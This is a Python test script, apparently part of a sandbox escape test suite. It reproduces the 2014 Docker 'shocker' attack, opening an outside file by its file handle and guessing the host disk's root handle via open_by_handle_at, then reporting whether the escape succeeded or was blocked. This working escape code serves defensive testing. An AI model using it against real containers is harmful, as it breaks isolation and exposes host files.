#!/usr/bin/env python3
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))
from atk import *
import ctypes
t = Test("r09-file-handle", "open an outside file by its file handle, and the root of the disk by a guessed one (shocker)", "fs-read", 3, "docker shocker 2014; CAP_DAC_READ_SEARCH")
p = t.out("secret.txt")
NRS = {"x86_64": 303, "aarch64": 264}.get(os.uname().machine)
if NRS is None: t.skip("arch")
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132)); mnt = ctypes.c_int()
if libc.syscall(ctypes.c_long(NRS), ctypes.c_long(-100), p.encode(), buf, ctypes.byref(mnt), ctypes.c_long(0)) < 0:
    t.skip("this file system gives no handles: errno %d" % ctypes.get_errno())
size = int.from_bytes(buf.raw[:4], "little")
r = t.probe("""
known=bytes.fromhex(ARGS[0]); n=0; seen=set()
guess=struct.pack('<Ii',8,1)+struct.pack('<II',2,0)                       # ext4: inode 2, any generation
for where in ('.','/','/usr','/etc','/tmp','/dev','/proc/self/root'):
    try: fd=os.open(where,os.O_RDONLY)
    except OSError: continue
    for name,h in (('the known handle',known),('a guessed root',guess)):
        got,e=sysc(NR['open_by_handle_at'],fd,ctypes.create_string_buffer(h,len(h)+8),os.O_RDONLY)
        seen.add(ename(e))
        if got<0: continue
        if name=='the known handle': d=os.read(got,200); os.write(1,d); escaped('opened %s through %s'%(name,where)); n=1
        elif 'etc' in os.listdir(got) and not os.path.samestat(os.fstat(got),os.stat('/')): escaped('opened %s through %s'%(name,where)); n=1
if not n: blocked('no handle can be opened: '+','.join(sorted(seen)))
""", [buf.raw[: 8 + size].hex()])
t.judge(r)
